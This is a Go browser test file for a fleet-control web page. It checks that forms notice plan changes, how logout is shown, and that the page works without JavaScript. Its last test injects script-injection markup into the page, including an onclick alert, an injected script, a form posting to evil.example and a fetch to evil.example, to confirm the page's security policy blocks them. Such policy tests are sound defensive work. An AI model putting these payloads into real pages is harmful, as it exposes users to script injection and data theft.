package browser_test

import (
	"strings"
	"testing"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"

	"github.com/poolswap/poolswap/fleet"
)

// The plan changes while a person types. The text stays, and is not sent for the
// new plan.
func TestFleetFormKeepsItsPlan(t *testing.T) {
	d, _, g := watching(t)
	bob := d.controller("asn")
	g.turns("pause")
	g.do(chromedp.SendKeys(element("pause", "[name=why]"), "maintenance "))
	if _, err := bob.Pause(t.Context(), "bob was faster"); err != nil {
		t.Fatal(err)
	}
	g.shows("The plan has changed since you opened this form, which would be refused now.")
	g.steers("pause", "tonight")
	g.shows("The plan was changed meanwhile, so nothing was done.")
	g.shows("Plan 2 is by bob, who paused.")
	if why := run[string](g.tab, string(element("resume", "[name=why]"))+".value"); why != "maintenance tonight" {
		t.Errorf("the reason is %q now", why)
	}

	g.shows("This page follows by itself.")
	g.turns("resume")
	if _, err := bob.Resume(t.Context(), "done"); err != nil {
		t.Fatal(err)
	}
	g.shows("The plan has changed since you opened this form")
	g.turns("resume") // closes it
	g.do(chromedp.WaitVisible(css("summary:has(+ [data-do=pause])")))
	if text := g.text(); strings.Contains(text, "since you opened this form") {
		t.Errorf("the new form is called old:\n%s", text)
	}
	g.turns("pause")
	g.steers("pause", "now")
	g.shows("Plan 4: alice paused")
	g.quiet("409 (Conflict)")
}

func TestFleetSaysThatTheSessionHasEnded(t *testing.T) {
	d, _, g := watching(t)
	newGuest(t, d, "").loads(chromedp.Click(css("header button")))
	g.shows("You are logged out, so this page does not follow any more.")
	g.quiet("")
}

func TestFleetWithoutJavaScript(t *testing.T) {
	d, one, g := watching(t)
	_, err := chromedp.Call(g.ctx, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true})
	g.check(err)
	g.loads(chromedp.Click(css("header button"))) // logs out
	g.opens(d.url + "/fleet?name=asn")
	g.logIn(fleet.OperatorRole)
	g.shows("This page shows how things were when it was loaded.")
	g.shows("Replicas are to run " + one)
	g.turns("pause")
	g.steers("pause", "no scripts")
	g.shows("alice paused")
	g.shows("no scripts")
	g.quiet("")
}

// The policy stops markup that loads or runs anything, or sends a form elsewhere.
func TestFleetPolicy(t *testing.T) {
	_, _, g := watching(t)
	run[bool](g.tab, `(() => {
		document.body.insertAdjacentHTML("beforeend", '<img src="/stolen"><p id="trap" onclick="alert(1)">trap</p><form id="leak" action="https://evil.example/" method="post"></form>')
		document.getElementById("trap").click()
		document.getElementById("leak").submit()
		const script = document.createElement("script")
		script.textContent = "alert(2)"
		document.body.append(script)
		return true
	})()`)
	if fetched := run[bool](g.tab, `fetch("https://evil.example/").then(() => true, () => false)`, chromedp.EvalAwaitPromise); fetched {
		t.Error("the page can fetch from elsewhere")
	}
	g.wantBlocked("img-src", "script-src", "connect-src", "form-action")
}
